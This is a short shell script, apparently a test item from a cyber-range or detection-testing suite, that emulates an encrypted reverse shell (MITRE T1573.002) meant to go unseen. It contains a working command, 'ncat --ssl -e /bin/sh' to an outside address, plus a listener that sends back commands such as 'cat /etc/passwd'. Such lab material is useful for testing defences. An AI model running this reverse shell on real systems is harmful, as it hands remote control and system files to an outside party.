# SPDX-License-Identifier: Apache-2.0
# what: a shell given to a server outside by ncat in TLS
# technique: T1573.002
# from: ws1
# to: inet
# account: -
# outcome: success
# must: unseen
. "$RANGE_HERE/item.sh"
at inet sh -c '{ for c in id hostname "cat /etc/passwd" "ip addr" "ls -la /" whoami; do sleep 0.7; echo "$c"; done; sleep 0.5; } | timeout 20 ncat -l -p 4443 --ssl >"$RANGE/hosts/inet/home/got"' &
until on_inet=$(at inet ss -Hltn 'sport = :4443') && [ -n "$on_inet" ]; do sleep 0.3; done
timeout 15 ncat --ssl -e /bin/sh 203.0.113.10 4443
sleep 0.5
says 'root:' cat "$RANGE/hosts/inet/home/got"
